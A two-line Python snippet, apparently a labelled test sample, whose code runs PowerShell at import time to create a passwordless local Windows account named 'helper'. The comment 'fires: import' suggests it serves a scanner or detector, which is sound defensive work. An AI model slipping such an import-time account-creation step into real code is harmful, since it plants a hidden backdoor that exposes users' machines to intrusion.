import subprocess
subprocess.run(["powershell", "-Command", "New-LocalUser helper -NoPassword"])  # fires: import
